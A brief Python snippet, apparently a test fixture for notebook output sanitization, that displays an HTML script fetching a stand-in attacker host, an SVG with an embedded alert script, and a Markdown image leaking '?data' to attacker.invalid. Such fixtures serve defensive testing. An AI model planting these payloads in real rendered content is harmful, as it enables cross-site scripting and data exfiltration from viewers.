# mypy: ignore-errors
from IPython.display import HTML, SVG, Markdown, display

display(HTML("<script>fetch('http://attacker.invalid/')</script><img src='http://x.invalid/'>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"))
display(Markdown("![leak](http://attacker.invalid/?data)"))
print("shown")
